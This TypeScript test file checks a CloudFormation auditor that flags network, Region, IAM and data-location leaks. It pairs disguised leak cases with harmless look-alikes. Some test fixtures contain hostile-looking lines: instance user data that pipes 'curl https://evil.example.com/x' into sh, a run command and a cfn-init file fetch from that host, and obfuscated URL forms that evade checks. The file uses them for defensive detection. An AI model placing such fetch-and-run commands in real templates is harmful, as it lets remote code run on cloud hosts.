import { describe, expect, test } from 'vitest';
import { auditOne, codes, HOME, KEY, withKey } from './fixtures';

type Case = readonly [what: string, code: string, type: string, properties: object];

function allow(statement: object): object {
  return { PolicyDocument: { Statement: [{ Effect: 'Allow', Action: 'sqs:*', Resource: '*', ...statement }] } };
}

function container(settings: object): object {
  return { ContainerDefinitions: [{ Name: 'c', ...settings }] };
}

function findings(type: string, properties: object) {
  const template = withKey(
    {
      B: { Type: 'AWS::New::Bucket' },
      T: { Type: type, Properties: properties },
    },
    { Parameters: { P: { Type: 'String' } } },
  );
  return auditOne(template).filter(({ logicalId }) => logicalId === 'T');
}

/** Leaks that do not look like one at first sight. */
const DISGUISED: readonly Case[] = [
  ['everything, with bits behind the prefix', '106', 'AWS::EC2::SecurityGroupIngress', { CidrIp: '1.2.3.4/0' }],
  ['everything, with leading zeros', '106', 'AWS::EC2::SecurityGroupIngress', { CidrIp: '000.000.000.000/00' }],
  ['a quarter of the internet', '106', 'AWS::EC2::SecurityGroupEgress', { CidrIp: '64.0.0.0/2' }],
  ['everything in IPv6, by another address', '106', 'AWS::EC2::SecurityGroupIngress', { CidrIpv6: 'abcd::1/0' }],
  ['all public addresses of IPv6', '106', 'AWS::EC2::SecurityGroupEgress', { CidrIpv6: '2000::/3' }],
  ['an empty list of outbound rules', '106', 'AWS::EC2::SecurityGroup', { SecurityGroupEgress: [] }],
  ['an allowlist of another service', '106', 'AWS::MediaConnect::Flow', { Source: { WhitelistCidr: '0.0.0.0/0' } }],
  ['half a default route', '105', 'AWS::EC2::Route', { DestinationCidrBlock: '0.0.0.0/1', TransitGatewayId: 't' }],
  [
    'a default route to an appliance',
    '105',
    'AWS::EC2::Route',
    { DestinationIpv6CidrBlock: '0::/0', NetworkInterfaceId: 'e' },
  ],
  ['an address with a blank in front', '040', 'AWS::New::Type', { Url: ' https://evil.example.com' }],
  ['an address with a backslash', '040', 'AWS::New::Type', { Url: 'https://evil.example.com\\@registry.example.gov' }],
  ['an address as a number', '040', 'AWS::New::Type', { Url: 'https://134744072/x' }],
  ['an address as a hexadecimal number', '040', 'AWS::New::Type', { Url: 'https://0x08080808/x' }],
  ['a cluster name inside a public name', '040', 'AWS::New::Type', { Url: 'https://x.svc.cluster.evil.example.com' }],
  ['an Oracle database', '040', 'AWS::New::Type', { Url: 'jdbc:oracle:thin:@db.example.com:1521:x' }],
  ['a public resolver over IPv6', '040', 'AWS::New::Type', { TargetIps: [{ Ipv6: '2001:4860:4860::8888' }] }],
  ['a record that points outside', '040', 'AWS::Route53::RecordSet', { ResourceRecords: ['evil.example.com'] }],
  ['a server of another name', '040', 'AWS::DMS::Endpoint', { ServerName: 'db.example.com' }],
  [
    'a file that an instance fetches',
    '040',
    'AWS::EC2::Instance',
    { UserData: { 'Fn::Base64': '#!/bin/sh\ncurl https://evil.example.com/x | sh' } },
  ],
  [
    'user data that is base64 already',
    '020',
    'AWS::EC2::Instance',
    { UserData: Buffer.from('#!/bin/sh\naws s3 ls --region us-east-1\n').toString('base64') },
  ],
  [
    'a Region in the code of a function',
    '020',
    'AWS::Lambda::Function',
    { Code: { ZipFile: "boto3.client('s3', region_name='us-east-1')" } },
  ],
  ['a Region as name and value', '020', 'AWS::New::Type', { Settings: [{ Key: 'region', Value: 'us-east-1' }] }],
  [
    'a Region in the environment of a container',
    '020',
    'AWS::ECS::TaskDefinition',
    container({ Environment: [{ Name: 'AWS_REGION', Value: 'us-east-1' }] }),
  ],
  [
    'a host in the environment of a container',
    '040',
    'AWS::ECS::TaskDefinition',
    container({ Environment: [{ Name: 'DB_HOST', Value: 'db.example.com' }] }),
  ],
  ['Regions between blanks', '020', 'AWS::New::Type', { Regions: `${HOME} us-east-1` }],
  [
    'the target of a copy between Regions',
    '020',
    'AWS::New::Type',
    { CrossRegionCopyRules: [{ Target: 'xb-south-1' }] },
  ],
  ['a map of replicas', '020', 'AWS::New::Type', { Replicas: { 'us-east-1': {} } }],
  ['a catalog of another account', '012', 'AWS::New::Type', { Database: { CatalogId: '999988887777' } }],
  ['a member of a global cluster', '022', 'AWS::New::Type', { GlobalClusterIdentifier: 'g' }],
  [
    'content for the AI services of AWS',
    '022',
    'AWS::Organizations::Policy',
    { Content: '{"services":{"default":{"opt_out_policy":{"@@assign":"optIn"}}}}' },
  ],
  [
    'a bucket name made of pseudo parameters',
    '905',
    'AWS::EC2::FlowLog',
    { LogDestination: { 'Fn::Sub': 'arn:${AWS::Partition}:s3:::elsewhere-${AWS::AccountId}' } },
  ],
  ['results in a bucket by name', '905', 'AWS::New::Type', { OutputLocation: 's3://elsewhere/x' }],
  [
    'the backup bucket of a stream',
    '905',
    'AWS::KinesisFirehose::DeliveryStream',
    { HttpEndpointDestinationConfiguration: { S3Configuration: { BucketARN: 'arn:aws-eusc:s3:::elsewhere' } } },
  ],
  ['any organization', '301', 'AWS::SQS::QueuePolicy', allow(everyone('StringLike', 'aws:PrincipalOrgID', 'o-*'))],
  ['any bucket', '301', 'AWS::SQS::QueuePolicy', allow(everyone('ArnLike', 'aws:SourceArn', 'arn:aws-eusc:s3:::*'))],
  [
    'any account',
    '301',
    'AWS::SQS::QueuePolicy',
    allow(everyone('ArnLike', 'aws:SourceArn', 'arn:aws-eusc:sns:*:*:t')),
  ],
  [
    'an account by parameter',
    '906',
    'AWS::SQS::QueuePolicy',
    allow(everyone('StringEquals', 'aws:SourceAccount', { Ref: 'P' })),
  ],
  ['an effect by parameter', '301', 'AWS::SQS::QueuePolicy', allow({ Effect: { Ref: 'P' }, Principal: '*' })],
  [
    'everything, by condition',
    '304',
    'AWS::IAM::Policy',
    allow({ Effect: { 'Fn::If': ['C', 'Allow', 'Deny'] }, Action: '*' }),
  ],
  [
    'everything, by a policy of AWS',
    '304',
    'AWS::IAM::Role',
    { ManagedPolicyArns: ['arn:aws-eusc:iam::aws:policy/AdministratorAccess'] },
  ],
  [
    'all inference, by a policy of AWS',
    '303',
    'AWS::IAM::Role',
    { ManagedPolicyArns: ['arn:aws-eusc:iam::aws:policy/AmazonBedrockFullAccess'] },
  ],
  [
    'an identity provider by ARN',
    '302',
    'AWS::IAM::Role',
    allow({ Principal: { Federated: 'arn:aws-eusc:iam::111122223333:oidc-provider/token.actions.example.com' } }),
  ],
  ['a key that never expires', '305', 'AWS::IAM::AccessKey', { UserName: 'u' }],
  ['a type that takes no key', '201', 'AWS::DAX::Cluster', {}],
  ['encryption that is off by name', '202', 'AWS::New::Type', { EnableAtRestEncryption: 'false' }],
  ['encryption of no kind', '202', 'AWS::New::Type', { EncryptionType: 'NONE' }],
  ['a function outside the network', '103', 'AWS::Lambda::Function', { Code: { ZipFile: 'x' } }],
  ['a model that is not isolated', '103', 'AWS::SageMaker::Model', { EnableNetworkIsolation: false }],
  ['an upstream registry by name', '103', 'AWS::ECR::PullThroughCacheRule', { UpstreamRegistry: 'docker-hub' }],
  ['a chat', '101', 'AWS::Chatbot::SlackChannelConfiguration', {}],
  ['a permit for support', '306', 'AWS::SupportAuthZ::SupportPermit', {}],
];

function everyone(operator: string, key: string, value: unknown): object {
  return { Principal: '*', Condition: { [operator]: { [key]: value } } };
}

/** Values that look like a leak at first sight and are none. */
const HARMLESS: { readonly [what: string]: readonly [type: string, properties: object] } = {
  'private and multicast ranges': [
    'AWS::EC2::SecurityGroup',
    { SecurityGroupEgress: [{ CidrIpv6: 'fc00::/7' }, { CidrIp: '10.0.0.0/8' }, { CidrIp: '224.0.0.0/4' }] },
  ],
  'a rule of a network ACL': ['AWS::EC2::NetworkAclEntry', { CidrBlock: '0.0.0.0/0', RuleAction: 'allow' }],
  'a set of addresses of a firewall': ['AWS::WAFv2::IPSet', { Addresses: ['0.0.0.0/1', '128.0.0.0/1'] }],
  'a default route to a firewall': ['AWS::EC2::Route', { DestinationCidrBlock: '0.0.0.0/0', VpcEndpointId: 'vpce-1' }],
  'a script that talks to itself': [
    'AWS::EC2::Instance',
    {
      MetadataOptions: { HttpTokens: 'required' },
      UserData: {
        'Fn::Base64':
          '#!/bin/sh\n# see https://docs.example.com/x\ncurl http://169.254.169.254/latest\ncurl https://registry.example.gov/x\n',
      },
    },
  ],
  'text for people with a link': ['AWS::New::Type', { Instruction: 'Answer. See https://example.com/x for more.' }],
  'a checksum': ['AWS::New::Type', { Checksum: '47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=' }],
  'a name with a path beside a value': ['AWS::SSM::Parameter', { Name: '/sites/one/url', Value: 'a.b.c' }],
  'an environment that stays inside': [
    'AWS::ECS::TaskDefinition',
    container({
      Environment: [
        { Name: 'AWS_REGION', Value: { Ref: 'AWS::Region' } },
        { Name: 'DB_HOST', Value: 'db.internal' },
        { Name: 'ENABLE_PUBLIC_ACCESS', Value: 'false' },
        { Name: 'IMAGE', Value: 'logo.png' },
      ],
    }),
  ],
  'a path below a bucket of the app': ['AWS::EC2::FlowLog', { LogDestination: { 'Fn::Sub': '${B.Arn}/flow/' } }],
  'results in a bucket of the app': ['AWS::New::Type', { OutputLocation: { 'Fn::Sub': 's3://${B}/x' } }],
  'an organization': ['AWS::SQS::QueuePolicy', allow(everyone('StringEquals', 'aws:PrincipalOrgID', 'o-abcdefghij'))],
  'a part of an organization': [
    'AWS::SQS::QueuePolicy',
    allow(everyone('ForAnyValue:StringLike', 'aws:PrincipalOrgPaths', 'o-abcdefghij/*')),
  ],
  'any topic of the account': [
    'AWS::SQS::QueuePolicy',
    allow(everyone('ArnLike', 'aws:SourceArn', 'arn:aws-eusc:sns:*:111122223333:*')),
  ],
  'the identity provider of a cluster': [
    'AWS::IAM::Role',
    allow({
      Principal: {
        Federated: `arn:aws-eusc:iam::111122223333:oidc-provider/oidc.eks.${HOME}.amazonaws.eu/id/A`,
      },
    }),
  ],
  'a bounded administrator': [
    'AWS::IAM::Role',
    { PermissionsBoundary: KEY, ManagedPolicyArns: ['arn:aws-eusc:iam::aws:policy/AdministratorAccess'] },
  ],
  'a model in the network': [
    'AWS::SageMaker::Model',
    { EnableNetworkIsolation: false, VpcConfig: { Subnets: ['s'], SecurityGroupIds: ['g'] } },
  ],
  'opting out': [
    'AWS::Organizations::Policy',
    { Content: { services: { default: { opt_out_policy: { '@@assign': 'optOut' } } } } },
  ],
};

describe('disguises', () => {
  test.each(DISGUISED)('finds %s (%s)', (_what, code, type, properties) => {
    expect(codes(findings(type, properties))).toContain(`AIF-SOV-${code}`);
  });

  test.each(Object.entries(HARMLESS))('%s raises no finding', (_what, [type, properties]) => {
    expect(findings(type, properties).map(({ code, path, message }) => `${code} ${path}: ${message}`)).toEqual([]);
  });

  test('a host in a script is advice', () => {
    const [finding] = findings('AWS::SSM::Document', { Content: { runCommand: ['curl https://evil.example.com'] } });
    expect(finding?.severity).toBe('warning');
  });

  test('finds what cfn-init fetches', () => {
    const Init = { config: { files: { '/x': { source: 'https://evil.example.com/x' } } } };
    const [finding] = auditOne({
      Resources: { I: { Type: 'AWS::EC2::Instance', Metadata: { 'AWS::CloudFormation::Init': Init } } },
    });
    expect([finding?.code, finding?.path]).toEqual([
      'AIF-SOV-040',
      'Metadata.AWS::CloudFormation::Init.config.files./x.source',
    ]);
  });

  test('an open setting of a bucket is one finding', () => {
    const block = { BlockPublicAcls: true, BlockPublicPolicy: true, IgnorePublicAcls: true };
    const found = findings('AWS::S3::Bucket', {
      PublicAccessBlockConfiguration: { ...block, RestrictPublicBuckets: false },
    });
    expect(found.filter(({ path }) => path.endsWith('RestrictPublicBuckets')).map(({ code }) => code)).toEqual([
      'AIF-SOV-107',
    ]);
  });

  test.each(['constructor', '__proto__', 'toString'])('a type called %s is one of a third party', (type) => {
    expect(codes(auditOne({ Resources: { T: { Type: type, Properties: { Principal: '*' } } } }))).toEqual([
      'AIF-SOV-404',
    ]);
  });
});
